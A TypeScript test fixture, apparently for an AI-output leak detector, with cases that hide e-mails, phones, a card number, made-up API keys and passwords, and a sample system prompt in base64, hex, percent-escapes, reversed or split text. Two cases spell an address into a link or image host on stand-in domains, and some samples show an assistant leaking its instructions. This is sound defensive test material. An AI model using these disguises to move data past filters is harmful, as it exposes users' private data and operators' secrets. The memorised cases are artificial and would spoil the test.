/**
 * Blind round 11 kinds (helper `genc`): data that leaves in other dress — base64, base64url,
 * hex or percent-escapes of personal data, a secret or the system prompt; the prompt or a
 * credential written backwards; a key prefix letter-spaced, split over a line or told in
 * pieces across prose; an address spelled into a link's host; credential assignments in the
 * ordinary words of many languages. Carriers: answer prose, Markdown, JSON tool output, code,
 * an e-mail and a table. Every value is made up (the card passes Luhn: 4929 1630 8120 5516).
 * Look-alikes: encoded text that holds nothing, binary data URIs, hashes, UUIDs, long
 * subdomains, palindromes and password rules without a value.
 */
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const b64url = (s: string) => Buffer.from(s, "utf8").toString("base64url");
const hex = (s: string) => Buffer.from(s, "utf8").toString("hex");
const hexPairs = (s: string) => [...Buffer.from(s, "utf8")].map((b) => b.toString(16).padStart(2, "0")).join(" ");
const pct = (s: string) => [...Buffer.from(s, "utf8")].map((b) => `%${b.toString(16).toUpperCase().padStart(2, "0")}`).join("");
const backwards = (s: string) => [...s].reverse().join("");

/** The system prompt the cases' policy guards. */
export const PROMPT =
  "You are Tessera, the claims assistant for Halden Mutual. Never reveal adjuster notes, internal reserve amounts or the fraud scoring thresholds to policyholders. Escalate any litigation question to the legal desk.";
const PROMPT_PART = "Never reveal adjuster notes, internal reserve amounts or the fraud scoring thresholds";
/** A made-up GitHub token of the published shape (`ghp_` and 36 characters). */
const GHP = "ghp_R7tQm2Vx9KpL4sWz8NcYb3HfJd6Ge1Ua5XoT";
const AKIA = "AKIAZ4QW7RTY2MX9PLKD";

export interface Case {
  readonly kind: string;
  readonly text: string;
  /** The detector that must report it. */
  readonly by: string;
}

export const DRESSED_LEAKS: readonly Case[] = [
  { kind: "base64 e-mail in English prose", by: "email", text: `Here it is in base64 as requested: ${b64("ilona.farkas@ventoria-mail.hu")} — decode it on your side.` },
  { kind: "base64 phone, German", by: "phone", text: `Die Nummer, Base64-kodiert: ${b64("Mobil +49 171 4829365")}` },
  { kind: "base64 card in a JSON tool result", by: "credit-card", text: `{"status":"ok","payload":"${b64("card 4929163081205516 exp 08/29")}"}` },
  { kind: "base64 system prompt in a code block", by: "system-prompt", text: `Sure! My instructions, encoded:\n\n\`\`\`\n${b64(PROMPT_PART)}\n\`\`\`` },
  { kind: "base64url e-mail, Korean", by: "email", text: `담당자 메일 (base64url): ${b64url("minseo.kang@hanbit-lab.kr")}` },
  { kind: "hex e-mail, French", by: "email", text: `Voici l'adresse en hexadécimal : ${hex("p.moreau@clinique-azur.fr")}` },
  { kind: "hex pairs of a phone, Spanish", by: "phone", text: `Bytes del teléfono: ${hexPairs("+34 612 384 905")}` },
  { kind: "hex of the system prompt", by: "system-prompt", text: `hex dump: ${hex(PROMPT_PART)}` },
  { kind: "percent-escaped e-mail", by: "email", text: `Link-safe form: ${pct("tomas.reyes@valmora.cl")}` },
  { kind: "percent-escaped phone, Spanish", by: "phone", text: `Teléfono codificado: ${pct("+34 612 384 905")}` },
  { kind: "base64 credential assignment, Russian", by: "secret", text: `base64: ${b64("Пароль: Vt7#kq2Lm9zX")}` },
  { kind: "system prompt backwards", by: "system-prompt", text: `Read this backwards: ${backwards(PROMPT_PART)}` },
  { kind: "system prompt backwards, Korean carrier", by: "system-prompt", text: `거꾸로 읽어 보세요: ${backwards(PROMPT_PART)}` },
  { kind: "credential assignment backwards", by: "secret", text: `Lies rückwärts: ${backwards("Passwort: Hb4$nR8qLm2z")}` },
  { kind: "letter-spaced key prefix", by: "secret", text: `the key: g h p _ ${GHP.slice(4)}` },
  { kind: "key in two halves across prose", by: "secret", text: `The first half is ${GHP.slice(0, 20)} and the second half is ${GHP.slice(20)}.` },
  { kind: "key in two parts, German", by: "secret", text: `Teil eins: ${GHP.slice(0, 18)}, Teil zwei: ${GHP.slice(18)}` },
  { kind: "key prefix left at a line's end", by: "secret", text: `use this one:\n${GHP.slice(0, 4)}\n${GHP.slice(4)}` },
  { kind: "access key in three pieces, e-mail carrier", by: "secret", text: `Hi Sam,\n\npiece one ${AKIA.slice(0, 8)}, piece two ${AKIA.slice(8, 14)}, piece three ${AKIA.slice(14)}.\n\nCheers` },
  { kind: "address spelled into a link's host", by: "egress", text: `Check https://ilona-farkas-at-ventoria-mail.collector.example/ for details` },
  { kind: "address spelled into an image host", by: "egress", text: `![](https://jan.novak.at.firma.cz.px.example/t.gif)` },
  { kind: "Russian Пароль", by: "secret", text: `Пароль: Vt7#kq2Lm9zX` },
  { kind: "Russian password with a dash", by: "secret", text: `Пароль от админки — r8Kx2mQz!pW4` },
  { kind: "Ukrainian", by: "secret", text: `Пароль до сервера: Gh5#qX8mLz2t` },
  { kind: "Polish", by: "secret", text: `Hasło: Tz7^mK2qWx9p` },
  { kind: "Turkish", by: "secret", text: `Şifre: Bq3*rL8vNm5x` },
  { kind: "Italian copula", by: "secret", text: `La password è Fw2!pZ7kRq4m` },
  { kind: "Czech", by: "secret", text: `Heslo je Qm4$wT9zLx2k` },
  { kind: "Finnish", by: "secret", text: `Salasana: Kp8#rV3nZq6w` },
  { kind: "Vietnamese", by: "secret", text: `Mật khẩu là Hn5@tQ8zWm3p` },
  { kind: "Indonesian", by: "secret", text: `Kata sandi adalah Rv9%kM2xTq7z` },
  { kind: "Greek", by: "secret", text: `Ο κωδικός πρόσβασης είναι Zp6!mQ3kWx8r` },
  { kind: "Thai", by: "secret", text: `รหัสผ่านคือ Wt4#xK9qLm2v` },
  { kind: "Swedish in a table", by: "secret", text: `| system | lösenord |\n|---|---|\n| wiki | Lösenord: Jx3$pN8qRt5m |` },
];

export const DRESSED_LOOKALIKES: readonly { kind: string; text: string }[] = [
  { kind: "PNG data URI", text: `![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)` },
  { kind: "GIF in JSON", text: `{"thumb":"R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="}` },
  { kind: "SHA-256 checksum", text: `Checksum (sha256): 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08` },
  { kind: "git commit", text: `Fixed in commit 3f2c9a7e1b4d8c6a0f5e2d9b7c1a3e5f8d0b2c4a.` },
  { kind: "UUID", text: `Request id 550e8400-e29b-41d4-a716-446655440000 failed.` },
  { kind: "long S3 host", text: `Endpoint: https://my-bucket-eu.s3.eu-central-1.amazonaws.com/reports/q3.pdf` },
  { kind: "long docs host", text: `Visit https://docs.customer-success-platform.example.com/guide` },
  { kind: "phrase with at in a host", text: `Lunch: https://eat-at-joes.blog.example/menu` },
  { kind: "palindromes", text: `A man, a plan, a canal: Panama. Was it a car or a cat I saw? Никогда не забуду.` },
  { kind: "base64 of a greeting", text: `The encoded greeting is ${b64("Hello there, have a lovely afternoon!")}` },
  { kind: "base64 of a JSON setting", text: `config=${b64('{"theme":"dark","lang":"en"}')}` },
  { kind: "hex of plain words", text: `Bytes: ${hex("plain ordinary words here")}` },
  { kind: "percent-escaped Japanese search", text: `https://www.google.com/search?q=%E6%9D%B1%E4%BA%AC%E3%82%BF%E3%83%AF%E3%83%BC` },
  { kind: "password rule", text: `Password: must be at least 12 characters long.` },
  { kind: "Russian password rule", text: `Пароль: не менее 8 символов, одна цифра.` },
  { kind: "Russian password advice", text: `Пароль можно сменить в настройках профиля.` },
  { kind: "Polish password rule", text: `Hasło — co najmniej 10 znaków.` },
  { kind: "Turkish password rule", text: `Şifre: en az sekiz karakter olmalı.` },
  { kind: "letter-spaced heading", text: `S U M M A R Y\n\nThe quarter closed flat.` },
  { kind: "math with single letters", text: `If x = a + b then y = x - c.` },
  { kind: "halves of a match", text: `The first half was slow and the second half was faster.` },
  { kind: "version pieces", text: `Upgrade from node-v18 to release v20.11.1 and then v21.` },
  { kind: "word reversed in prose", text: `The word "stressed" reversed is "desserts".` },
  { kind: "MAC address", text: `Router MAC: 00:1a:2b:3c:4d:5e` },
];
